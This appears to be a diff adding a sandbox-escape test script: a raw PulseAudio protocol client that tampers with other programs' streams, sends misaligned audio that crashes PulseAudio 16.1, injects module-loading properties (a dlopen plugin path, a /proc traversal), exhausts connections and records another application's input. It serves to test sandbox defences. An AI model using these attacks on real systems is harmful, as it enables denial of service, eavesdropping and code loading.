@@ -1,0 +1,325 @@
+#!/usr/bin/python3
+"""Attacks on the sound door, run inside a sandbox by the image's own python3 (stdlib only).
+
+A raw client of PulseAudio's native protocol on the sandbox's socket ($PULSE_SERVER): it says
+what libpulse would not. Each attack prints one line of what it got (a Python literal:
+python3-minimal has no json module); the test on the host
+judges by what the user's server did.
+
+    pulseattack.py victim INDEX     change another program's stream (INDEX: its sink input)
+    pulseattack.py misaligned       audio at an offset that is not a whole frame, then a drain
+    pulseattack.py properties SO    stream, client and format properties that load modules
+    pulseattack.py connections N    hold N authenticated connections, and one that never says
+                                    a word; how many the server took, how soon the silent one
+                                    was closed
+    pulseattack.py direct INDEX     a record stream "directly on" another program's sink input
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import struct
+import sys
+import time
+
+CONTROL = 0xFFFFFFFF
+INVALID = 0xFFFFFFFF
+VERSION = 35
+ERROR, REPLY = 0, 2
+CREATE_PLAYBACK_STREAM, CREATE_RECORD_STREAM = 3, 5
+AUTH, SET_CLIENT_NAME, DRAIN = 8, 9, 12
+GET_SERVER_INFO = 20
+SET_SINK_INPUT_VOLUME, SET_SINK_INPUT_MUTE = 37, 69
+SET_PLAYBACK_STREAM_BUFFER_ATTR = 72
+UPDATE_PLAYBACK_STREAM_PROPLIST, UPDATE_CLIENT_PROPLIST = 81, 82
+S16LE, U8 = 3, 0
+
+
+def u32(value: int) -> bytes:
+    return b"L" + struct.pack(">I", value)
+
+
+def u8(value: int) -> bytes:
+    return b"B" + bytes([value])
+
+
+def boolean(value: bool) -> bytes:
+    return b"1" if value else b"0"
+
+
+def text(value: str | None) -> bytes:
+    return b"N" if value is None else b"t" + value.encode() + b"\0"
+
+
+def proplist(values: dict[str, str]) -> bytes:
+    out = b"P"
+    for key, value in values.items():
+        data = value.encode() + b"\0"
+        out += text(key) + u32(len(data)) + b"x" + struct.pack(">I", len(data)) + data
+    return out + text(None)
+
+
+def sample_spec(fmt: int, channels: int, rate: int) -> bytes:
+    return b"a" + struct.pack(">BBI", fmt, channels, rate)
+
+
+def channel_map(channels: int) -> bytes:
+    return b"m" + bytes([channels]) + (bytes([0]) if channels == 1 else bytes([1, 2]))
+
+
+def cvolume(channels: int, volume: int = 0x10000) -> bytes:
+    return b"v" + bytes([channels]) + struct.pack(">I", volume) * channels
+
+
+def pcm_format(channels: int) -> bytes:
+    return b"f" + u8(1) + proplist({"format.sample_format": '"s16le"',
+                                    "format.rate": "44100", "format.channels": str(channels)})
+
+
+class Closed(Exception):
+    pass
+
+
+class Client:
+    def __init__(self, authenticate: bool = True, name: str = "attack") -> None:
+        path = os.environ["PULSE_SERVER"].removeprefix("unix:")
+        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.sock.settimeout(5)
+        self.sock.connect(path)
+        self.tag = 0
+        if authenticate:
+            self.request(AUTH, u32(VERSION), b"x" + struct.pack(">I", 256) + bytes(256))
+            self.request(SET_CLIENT_NAME, proplist({"application.name": name}))
+
+    def next_tag(self) -> int:
+        self.tag += 1
+        return self.tag
+
+    def send(self, command: int, tag: int, *args: bytes) -> None:
+        payload = u32(command) + u32(tag) + b"".join(args)
+        self.sock.sendall(struct.pack(">IIIII", len(payload), CONTROL, 0, 0, 0) + payload)
+
+    def audio(self, channel: int, data: bytes, offset: int = 0, flags: int = 0) -> None:
+        self.sock.sendall(struct.pack(">IIIII", len(data), channel, offset >> 32,
+                                      offset & 0xFFFFFFFF, flags) + data)
+
+    def _exactly(self, size: int) -> bytes:
+        data = b""
+        while len(data) < size:
+            chunk = self.sock.recv(size - len(data))
+            if not chunk:
+                raise Closed()
+            data += chunk
+        return data
+
+    def packet(self) -> tuple[int, bytes]:
+        length, channel, _, _, _ = struct.unpack(">IIIII", self._exactly(20))
+        return channel, self._exactly(length)
+
+    def answer(self, tag: int) -> tuple[str, bytes]:
+        """("reply", its payload after command and tag) or ("error", the code's bytes)."""
+        while True:
+            channel, payload = self.packet()
+            if channel != CONTROL or len(payload) < 10:
+                continue
+            command, got = struct.unpack(">xIxI", payload[:10])
+            if got == tag and command in (REPLY, ERROR):
+                return ("reply" if command == REPLY else "error"), payload[10:]
+
+    def request(self, command: int, *args: bytes) -> tuple[str, bytes]:
+        tag = self.next_tag()
+        self.send(command, tag, *args)
+        kind, rest = self.answer(tag)
+        if command in (AUTH, SET_CLIENT_NAME) and kind != "reply":
+            raise Closed(f"the handshake was refused: {rest!r}")
+        return kind, rest
+
+    def create_args(self, fmt: int = S16LE, channels: int = 2, sink: str | None = None,
+                    properties: dict[str, str] | None = None, tlength: int = INVALID,
+                    formats: list[bytes] | None = None) -> bytes:
+        return (sample_spec(fmt, channels, 44100) + channel_map(channels) + u32(INVALID)
+                + text(sink) + u32(INVALID) + boolean(False) + u32(tlength) + u32(INVALID)
+                + u32(INVALID) + u32(0) + cvolume(channels)
+                + boolean(False) * 7                          # v12: remapping, moving
+                + boolean(False) + boolean(False)             # v13: muted, adjust latency
+                + proplist(properties or {"media.name": "attack"})
+                + boolean(False) + boolean(False)             # v14
+                + boolean(False) * 3 + boolean(False)         # v15, v17
+                + boolean(False)                              # v18: passthrough
+                + u8(len(formats or [])) + b"".join(formats or []))
+
+    def create_playback(self, **kwargs: object) -> tuple[int, int] | None:
+        """(channel, sink input) of a new stream, or None when refused."""
+        kind, rest = self.request(CREATE_PLAYBACK_STREAM, self.create_args(**kwargs))  # type: ignore[arg-type]
+        if kind != "reply":
+            return None
+        channel, sink_input = struct.unpack(">xIxI", rest[:10])
+        return channel, sink_input
+
+    def alive(self) -> bool:
+        try:
+            return self.request(GET_SERVER_INFO)[0] == "reply"
+        except (OSError, Closed):
+            return False
+
+
+def attempt(results: dict[str, object], name: str, action) -> None:  # type: ignore[no-untyped-def]
+    try:
+        results[name] = action()
+    except (OSError, Closed) as exc:
+        results[name] = f"closed: {exc.__class__.__name__}"
+
+
+def victim(index: int) -> dict[str, object]:
+    """Every way in to another program's sink input: by its index; by a reply whose tag was a
+    failed stream creation's; by a tag reused while a creation is pending."""
+    results: dict[str, object] = {}
+
+    def direct() -> object:
+        client = Client()
+        return [client.request(SET_SINK_INPUT_MUTE, u32(index), boolean(True))[0],
+                client.request(SET_SINK_INPUT_VOLUME, u32(index), cvolume(2, 0x40000))[0]]
+
+    def stale_tag() -> object:
+        client = Client()
+        own = client.create_playback(fmt=U8, channels=1)
+        if own is None:
+            return "no stream"
+        got = []
+        for _ in range(3):
+            failed = client.next_tag()
+            client.send(CREATE_PLAYBACK_STREAM, failed, client.create_args(sink="no-such-sink"))
+            got.append(client.answer(failed)[0])
+            # Its tag again, on a request whose reply carries a value the client chose where
+            # a creation's reply has its sink input.
+            client.send(SET_PLAYBACK_STREAM_BUFFER_ATTR, failed, u32(own[0]), u32(0x400000),
+                        u32(index), u32(INVALID), u32(INVALID), boolean(False),
+                        boolean(False))
+            got.append(client.answer(failed)[0])
+            got.append(client.request(SET_SINK_INPUT_MUTE, u32(index), boolean(True))[0])
+            got.append(client.request(SET_SINK_INPUT_VOLUME, u32(index),
+                                      cvolume(1, 0x40000))[0])
+        return got
+
+    def reused_tag() -> object:
+        client = Client()
+        tag = client.next_tag()
+        client.send(CREATE_PLAYBACK_STREAM, tag, client.create_args(sink="no-such-sink"))
+        client.send(SET_PLAYBACK_STREAM_BUFFER_ATTR, tag, u32(0), u32(0x400000), u32(index),
+                    u32(INVALID), u32(INVALID), boolean(False), boolean(False))
+        client.answer(tag)
+        return [client.request(SET_SINK_INPUT_MUTE, u32(index), boolean(True))[0]]
+
+    for name, action in (("direct", direct), ("stale_tag", stale_tag),
+                         ("reused_tag", reused_tag)):
+        attempt(results, name, action)
+    return results
+
+
+def misaligned() -> dict[str, object]:
+    """Audio whose offset or length is not a whole frame of its s16le stereo stream, or that
+    seeks, then a drain: PulseAudio 16.1 aborts on the first."""
+    results: dict[str, object] = {}
+    for name, offset, flags, size in (("offset", 5, 0, 4096), ("length", 0, 0, 4095),
+                                      ("absolute-seek", 0, 1, 4096),
+                                      ("negative-offset", (1 << 64) - 6, 0, 4096)):
+        def run(offset: int = offset, flags: int = flags, size: int = size) -> object:
+            client = Client()
+            own = client.create_playback()
+            if own is None:
+                return "no stream"
+            client.audio(own[0], bytes(size), offset=offset, flags=flags)
+            client.audio(own[0], bytes(4096))
+            kind = client.request(DRAIN, u32(own[0]))[0]
+            return [kind, client.alive()]
+        attempt(results, name, run)
+    attempt(results, "server_alive_after", lambda: Client().alive())
+    return results
+
+
+def properties(plugin: str) -> dict[str, object]:
+    """Properties that make modules act: module-filter-apply loads module-<filter.apply>
+    (module-ladspa-sink dlopen()s its plugin=), filter-heuristics and role-cork act on
+    media.role=phone, PipeWire routes by target.object / node.target / stream.capture.sink."""
+    load = {"filter.apply": "ladspa-sink",
+            "filter.apply.ladspa-sink.parameters": f"plugin={plugin} label=evil",
+            "filter.want": "echo-cancel", "media.role": "phone",
+            "module-stream-restore.id": "sink-input-by-media-role:music",
+            "target.object": "sandboxapp_test_sink.monitor", "node.target": "0",
+            "stream.capture.sink": "true", "node.dont-reconnect": "true",
+            "pipewire.access": "unrestricted", "media.class": "Audio/Source",
+            "application.process.binary": "../../../../../../proc/self/environ"}
+    results: dict[str, object] = {}
+
+    def stream() -> object:
+        client = Client()
+        own = client.create_playback(properties={"media.name": "x", **load},
+                                     formats=[pcm_format(2)])
+        if own is None:
+            return "no stream"
+        answers = [client.request(UPDATE_PLAYBACK_STREAM_PROPLIST, u32(own[0]), u32(1),
+                                  proplist(load))[0],
+                   client.request(UPDATE_CLIENT_PROPLIST, u32(1), proplist(load))[0]]
+        for _ in range(20):  # play a second of silence, as a player does
+            client.audio(own[0], bytes(8820))
+            time.sleep(0.05)
+        answers.append(client.request(DRAIN, u32(own[0]))[0])
+        return answers
+
+    def format_properties() -> object:
+        client = Client()
+        evil = b"f" + u8(1) + proplist({"format.sample_format": '"s16le"',
+                                        "format.rate": "44100", "format.channels": "2",
+                                        **load})
+        return client.create_playback(properties={"media.name": "f"}, formats=[evil]) is not None
+
+    attempt(results, "stream", stream)
+    attempt(results, "formats", format_properties)
+    return results
+
+
+def connections(count: int) -> dict[str, object]:
+    """A connection that never says a word (how soon is it closed?), then count held at
+    once (how many does the server take?)."""
+    silent = Client(authenticate=False)
+    silent.sock.settimeout(30)
+    started = time.monotonic()
+    try:
+        closed = silent.sock.recv(1) == b""
+    except OSError:
+        closed = True
+    waited = time.monotonic() - started
+    held = []
+    refused = 0
+    for _ in range(count):
+        try:
+            held.append(Client())
+        except (OSError, Closed):
+            refused += 1
+    return {"held": len(held), "refused": refused, "silent_closed": closed,
+            "silent_closed_after": round(waited, 2)}
+
+
+def direct(index: int) -> dict[str, object]:
+    client = Client()
+    args = (sample_spec(S16LE, 2, 44100) + channel_map(2) + u32(INVALID) + text(None)
+            + u32(INVALID) + boolean(False) + u32(INVALID) + boolean(False) * 7
+            + boolean(False) + boolean(False) + proplist({"media.name": "direct"})
+            + u32(index) + boolean(False) + boolean(False) * 2 + u8(0) + cvolume(2)
+            + boolean(False) * 5)
+    kind, _ = client.request(CREATE_RECORD_STREAM, args)
+    return {"direct_on_input": kind, "alive": client.alive()}
+
+
+def main() -> None:
+    attack, *args = sys.argv[1:]
+    found = {"victim": lambda: victim(int(args[0])), "misaligned": misaligned,
+             "properties": lambda: properties(args[0]),
+             "connections": lambda: connections(int(args[0])),
+             "direct": lambda: direct(int(args[0]))}[attack]()
+    print(repr(found), flush=True)
+
+
+if __name__ == "__main__":
+    main()
